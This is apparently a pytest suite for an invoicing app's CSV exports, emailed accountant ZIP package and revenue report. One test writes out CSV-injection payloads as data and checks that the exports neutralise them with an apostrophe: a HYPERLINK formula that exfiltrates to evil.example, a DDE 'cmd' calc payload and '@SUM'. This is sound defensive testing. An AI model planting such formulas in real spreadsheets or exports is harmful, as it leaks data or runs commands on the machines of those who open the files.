"""CSV exports of the lists, the accountant's package (ZIP) and its emailing and schedule; the revenue report."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, timedelta
from typing import Any

import pytest

from app.clients.records import ClientView
from tests.conftest import run
from tests.http.smtp_support import SmtpServer, configure, deliver, free_port
from tests.http.support import count, create_via_api, field_errors, make_client

AWKWARD = 'Smith, "Jones"; & Co.'   # one line (a name refuses line breaks); the lines' descriptions hold them


# Mail and exports are delivered by the test itself (deliver()), not by the background workers; the smtp
# fixture (a local SMTP server) and this one live in tests/http/conftest.py.
pytestmark = pytest.mark.usefixtures("no_background_delivery")


@pytest.fixture
def smtp():
    server = SmtpServer(free_port(), auth=False).start()
    yield server
    server.stop()


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def invoice(api, client: ClientView, *, price: str = "100.00", issue_date: str | None = None,
            taxes: list[str] | None = None, issue: bool = True, description: str = "Work") -> dict[str, Any]:
    body: dict[str, Any] = {"client_id": client.id, "currency": "CAD",
                            "lines": [{"description": description, "quantity": "1", "unit_price": price,
                                       "taxes": taxes or []}]}
    if issue_date:
        body["issue_date"] = issue_date
    return create_via_api(api, "invoices", body, issue=issue)


@pytest.fixture
def books(api, config) -> dict[str, Any]:
    """Two clients (one with an awkward name), taxed invoices this year, a payment, a credit note."""
    from app.taxes import service as taxes_service

    run(taxes_service.apply_preset("canada"))
    today = date.today()
    first = make_client(name=AWKWARD, email="a@maple.example", code="MAPLE")
    second = make_client(name="Zoë's Café", email="z@cafe.example", code="ZOE")
    one = invoice(api, first, price="1000.00", taxes=["GST"], issue_date=today.replace(day=1).isoformat(),
                  description='Design, "phase 1"\nwith revisions, twice')
    two = invoice(api, second, price="250.00", taxes=["GST"])
    invoice(api, second, price="5.00", issue=False)  # a draft: never exported in the package
    paid = api.post(f"/api/v1/invoices/{two['id']}/payments",
                    json={"amount": "262.50", "date": today.isoformat(), "method": "bank_transfer", "reference": "X, 1"})
    assert paid.status_code in (200, 201), paid.text
    credit = api.post(f"/api/v1/invoices/{one['id']}/credit")
    assert credit.status_code == 201, credit.text
    trimmed = api.patch(f"/api/v1/credit-notes/{credit.json()['id']}", json={"lines": [
        {"description": "Goodwill", "quantity": "1", "unit_price": "200.00", "taxes": ["GST"]}]})
    assert trimmed.status_code == 200, trimmed.text
    assert api.post(f"/api/v1/credit-notes/{credit.json()['id']}/issue").status_code == 200
    return {"first": first, "second": second, "one": one, "two": two, "today": today}


# -- CSV of the lists ------------------------------------------------------------------------------

def test_clients_csv_reads_back_with_the_csv_module(api, books):
    response = api.get("/api/v1/exports/clients.csv?status=all")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = read_csv(response.content)
    assert {r["name"] for r in rows} == {AWKWARD, "Zoë's Café"}
    assert list(rows[0]) == [c.name for c in __import__("app.exports.logic", fromlist=["x"]).CLIENT_COLUMNS]
    zoe = next(r for r in rows if r["code"] == "ZOE")
    assert api.patch(f"/api/v1/clients/{zoe['client_id']}", json={"buyer_reference": "04011000-1234512345-06"}).status_code == 200
    rows = read_csv(api.get("/api/v1/exports/clients.csv?status=all").content)
    assert next(r for r in rows if r["code"] == "ZOE")["buyer_reference"] == "04011000-1234512345-06"
    # the list's filters apply
    rows = read_csv(api.get("/api/v1/exports/clients.csv", params={"q": "zoe"}).content)
    assert [r["code"] for r in rows] == ["ZOE"]
    assert api.get("/api/v1/exports/clients.csv?status=weird").status_code == 422


def test_invoices_csv_honours_the_list_filters(api, books):
    rows = read_csv(api.get("/api/v1/exports/invoices.csv").content)
    assert len(rows) == 3 and {r["status"] for r in rows} >= {"draft", "paid"}
    issued = read_csv(api.get("/api/v1/exports/invoices.csv", params={"status": "paid"}).content)
    assert [r["number"] for r in issued] == [books["two"]["number"]]
    assert issued[0]["total"] == "262.50" and issued[0]["paid"] == "262.50" and issued[0]["balance"] == "0.00"
    mine = read_csv(api.get("/api/v1/exports/invoices.csv", params={"client_id": books["first"].id}).content)
    assert [r["client_name"] for r in mine] == [AWKWARD] and mine[0]["client_code"] == "MAPLE"
    # same answer as the JSON list with the same filters
    listed = api.get("/api/v1/invoices", params={"status": "paid"}).json()
    assert [i["number"] for i in listed["items"]] == [r["number"] for r in issued]
    assert api.get("/api/v1/exports/invoices.csv", params={"status": "nonsense"}).status_code == 422
    assert api.get("/api/v1/exports/invoices.csv", params={"from": "2026-13-01"}).status_code == 400
    credit_notes = read_csv(api.get("/api/v1/exports/credit-notes.csv").content)
    assert len(credit_notes) == 1 and credit_notes[0]["invoice_number"] == books["one"]["number"]


def test_payments_csv(api, books):
    rows = read_csv(api.get("/api/v1/exports/payments.csv").content)
    assert len(rows) == 1 and rows[0]["amount"] == "262.50" and rows[0]["reference"] == "X, 1"
    assert read_csv(api.get("/api/v1/exports/payments.csv", params={"method": "cash"}).content) == []
    assert api.get("/api/v1/exports/payments.csv", params={"method": "gold"}).status_code == 422


def test_the_list_pages_link_their_csv(browser, books):
    for path, csv_path in (("/clients", "/api/v1/exports/clients.csv"), ("/invoices", "/api/v1/exports/invoices.csv"),
                           ("/payments", "/api/v1/exports/payments.csv")):
        page = browser.get(path + "?q=zoe" if path != "/payments" else path)
        assert page.status_code == 200
        assert csv_path in page.text, path
    assert "/api/v1/exports/clients.csv?q=zoe" in browser.get("/clients?q=zoe").text


def test_a_formula_in_a_cell_is_text_and_a_negative_amount_a_number(api, config):
    """CSV injection (OWASP): a text a spreadsheet would run starts with an apostrophe, in the lists and in the
    accountant's package; a negative amount or quantity is a plain number a spreadsheet still sums."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client = make_client(name=formula, phone="+1 416 555 0199", contact_name="@SUM(1+1)", code="EVIL")
    today = date.today()
    document = invoice(api, client, price="100.00", issue=False, issue_date=today.isoformat(),
                       description="-2+3+cmd|' /C calc'!A0")
    deposit = api.patch(f"/api/v1/invoices/{document['id']}", json={"lines": [
        {"description": "-2+3+cmd|' /C calc'!A0", "quantity": "1", "unit_price": "100.00"},
        {"description": "Deposit received", "quantity": "-1", "unit_price": "12.50"}]})
    assert deposit.status_code == 200, deposit.text
    assert api.post(f"/api/v1/invoices/{document['id']}/issue").status_code == 200
    [row] = read_csv(api.get("/api/v1/exports/clients.csv").content)
    assert row["name"] == "'" + formula
    assert row["phone"] == "'+1 416 555 0199" and row["contact_name"] == "'@SUM(1+1)"
    [listed] = read_csv(api.get("/api/v1/exports/invoices.csv").content)
    assert listed["client_name"] == "'" + formula and listed["total"] == "87.50"
    package = api.get(f"/api/v1/exports/accountant?from={today.replace(day=1)}&to={today}")
    assert package.status_code == 200, package.text
    archive = zipfile.ZipFile(io.BytesIO(package.content))
    assert read_csv(archive.read("clients.csv"))[0]["name"] == "'" + formula
    lines = read_csv(archive.read("invoice_lines.csv"))
    assert [line["description"] for line in lines] == ["'-2+3+cmd|' /C calc'!A0", "Deposit received"]
    assert lines[1]["quantity"] == "-1" and lines[1]["net"] == "-12.50"   # numbers, not text
    assert "apostrophe" in archive.read("README.txt").decode("utf-8")


# -- the accountant's package -----------------------------------------------------------------------

def test_the_package_holds_csvs_pdfs_xml_summary_and_readme(api, books):
    today = books["today"]
    start, end = date(today.year, 1, 1), date(today.year, 12, 31)
    response = api.get(f"/api/v1/exports/accountant?from={start}&to={end}")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert archive.testzip() is None
    names = set(archive.namelist())
    for name in ("README.txt", "clients.csv", "invoices.csv", "invoice_lines.csv", "credit_notes.csv", "payments.csv",
                 "tax_summary.csv", "aging.csv", "summary.pdf"):
        assert name in names, name
    pdfs = [n for n in names if n.startswith("pdf/")]
    assert len([n for n in pdfs if n.startswith("pdf/invoices/")]) == 2  # not the draft
    assert len([n for n in pdfs if n.startswith("pdf/credit_notes/")]) == 1
    for name in [*pdfs, "summary.pdf"]:
        assert archive.read(name).startswith(b"%PDF-"), name
    invoices = read_csv(archive.read("invoices.csv"))
    assert {r["number"] for r in invoices} == {books["one"]["number"], books["two"]["number"]}
    lines = read_csv(archive.read("invoice_lines.csv"))
    assert 'Design, "phase 1"\nwith revisions, twice' in {r["description"] for r in lines}
    taxes = read_csv(archive.read("tax_summary.csv"))
    gst = next(r for r in taxes if r["tax_code"] == "GST")
    assert gst["invoices_base"] == "1250.00" and gst["invoices_tax"] == "62.50"
    assert gst["credit_notes_base"] == "200.00" and gst["net_tax"] == "52.50"
    payments = read_csv(archive.read("payments.csv"))
    assert [p["amount"] for p in payments] == ["262.50"]
    readme = archive.read("README.txt").decode("utf-8")
    for column in invoices[0]:
        assert column in readme
    xml = [n for n in names if n.startswith("xml/")]
    if xml:  # Factur-X only where the render domain can express the taxes (EN 16931)
        assert archive.read(xml[0]).startswith(b"<?xml")


def test_the_package_refuses_a_bad_period(api, config):
    response = api.get("/api/v1/exports/accountant?from=2026-03-01")
    assert response.status_code == 422 and "to" in field_errors(response)
    response = api.get("/api/v1/exports/accountant?from=2026-03-31&to=2026-03-01")
    assert response.status_code == 422 and "to" in field_errors(response)
    assert api.get("/api/v1/exports/accountant?from=yesterday&to=2026-03-01").status_code == 400


def test_the_package_is_emailed_to_the_accountant(api, books, smtp):
    configure(api, smtp, smtp_username="", smtp_password="")
    today = books["today"]
    response = api.post(f"/api/v1/exports/accountant/send?from={today.year}-01-01&to={today.year}-12-31")
    assert response.status_code == 202, response.text
    assert response.json()["to"] == ["books@accountant.example"]
    deliver()
    [message] = smtp.inbox.messages()
    assert message["To"] == "books@accountant.example" and "Bookkeeping package" in message["Subject"]
    [attachment] = list(message.iter_attachments())
    assert attachment.get_content_type() == "application/zip"
    assert "invoices.csv" in zipfile.ZipFile(io.BytesIO(attachment.get_content())).namelist()


def test_without_an_accountant_the_address_is_asked_for(api, config):
    response = api.post("/api/v1/exports/accountant/send?from=2026-01-01&to=2026-01-31", json={})
    assert response.status_code == 422 and "to" in field_errors(response)
    response = api.post("/api/v1/exports/accountant/send?from=2026-01-01&to=2026-01-31", json={"to": "bad"})
    assert response.status_code == 422 and "to" in field_errors(response)
    assert count(config, "outbox_message") == 0


def test_the_monthly_schedule_catches_up_once(api, config, books, smtp):
    from app.exports import service

    configure(api, smtp, smtp_username="", smtp_password="")
    assert run(service.run_schedule_if_due(config)) == []  # off
    assert api.patch("/api/v1/settings/mail", json={"accountant_schedule": "monthly", "accountant_day": 1}).status_code == 200
    assert api.patch("/api/v1/settings/mail", json={"accountant_day": 31}).status_code == 422
    sent = run(service.run_schedule_if_due(config))
    last_month = (books["today"].replace(day=1) - timedelta(days=1)).strftime("%Y-%m")
    assert sent == [last_month]
    assert run(service.run_schedule_if_due(config)) == []  # not twice
    assert count(config, "outbox_message", "kind = 'accountant'") == 1


def test_the_exports_page(browser, books):
    page = browser.get("/exports")
    assert page.status_code == 200 and "Bookkeeping package" in page.text and "/api/v1/exports/clients.csv" in page.text
    bad = browser.post("/exports/accountant/send", data={"from": "2026-02-01", "to": "2026-01-01"})
    assert bad.status_code == 422
    nobody = browser.post("/exports/accountant/send", data={"from": "2026-01-01", "to": "2026-01-31"})
    assert nobody.status_code == 422 and "accountant" in nobody.text
    ok = browser.post("/exports/accountant/send", data={"from": "2026-01-01", "to": "2026-01-31",
                                                        "recipient": "books@example.com"}, follow_redirects=False)
    assert ok.status_code == 303 and ok.headers["location"] == "/outbox"
    saved = browser.post("/exports/schedule", data={"accountant_schedule": "monthly", "accountant_day": "5"},
                         follow_redirects=False)
    assert saved.status_code == 303
    assert "On day 5" in browser.get("/exports").text


def test_staff_cannot_change_the_schedule(staff_browser):
    response = staff_browser.post("/exports/schedule", data={"accountant_schedule": "monthly"}, follow_redirects=False)
    assert response.status_code == 403


# -- the revenue report --------------------------------------------------------------------------------

def test_revenue_json_csv_and_page(api, browser, books):
    year = books["today"].year
    month = books["today"].strftime("%Y-%m")
    response = api.get(f"/api/v1/reports/revenue?period=month&from={year}-01-01&to={year}-12-31")
    assert response.status_code == 200, response.text
    report = response.json()
    assert report["period"] == "month" and report["from"] == f"{year}-01-01" and len(report["rows"]) == 12
    [total] = report["totals"]
    assert total["currency"] == "CAD" and total["invoiced"] == "1312.50" and total["credited"] == "210.00"
    assert total["net_invoiced"] == "1102.50" and total["collected"] == "262.50" and total["outstanding"] == "840.00"
    row = next(r for r in report["rows"] if r["period"] == month)
    assert row["invoices"] == 2 and {t["code"] for t in row["taxes"]} == {"GST"}
    quarters = api.get(f"/api/v1/reports/revenue?period=quarter&from={year}-01-01&to={year}-12-31").json()
    assert [r["period"] for r in quarters["rows"]] == [f"{year}-Q{i}" for i in range(1, 5)]
    assert quarters["totals"] == report["totals"]
    rows = read_csv(api.get(f"/api/v1/reports/revenue.csv?period=year&from={year}-01-01&to={year}-12-31").content)
    assert len(rows) == 1 and rows[0]["net_invoiced"] == "1102.50" and rows[0]["tax_GST_5"] == "52.50"
    assert api.get("/api/v1/reports/revenue?period=week").status_code == 422
    assert api.get("/api/v1/reports/revenue?from=2026-05-01&to=2026-01-01").status_code == 422
    page = browser.get(f"/reports/revenue?period=month&from={year}-01-01&to={year}-12-31")
    assert page.status_code == 200 and "<svg" in page.text and "<script" not in page.text.split("<main")[1]
    assert browser.get("/reports/revenue?period=week").status_code == 422
    assert browser.get("/reports").status_code == 200 and "/reports/aging" in browser.get("/reports").text


def test_revenue_by_email(api, browser, books, smtp):
    configure(api, smtp, smtp_username="", smtp_password="")
    response = api.post("/api/v1/reports/revenue/send", json={"period": "quarter"})
    assert response.status_code == 202, response.text
    assert sorted(response.json()["attachments"])[0].endswith(".csv")
    deliver()
    [message] = smtp.inbox.messages()
    kinds = sorted(a.get_content_type() for a in message.iter_attachments())
    assert kinds == ["application/pdf", "text/csv"]
    assert api.post("/api/v1/reports/revenue/send", json={"to": "x"}).status_code == 422
    sent = browser.post("/reports/revenue/send", data={"period": "month", "recipient": "boss@example.com"},
                        follow_redirects=False)
    assert sent.status_code == 303
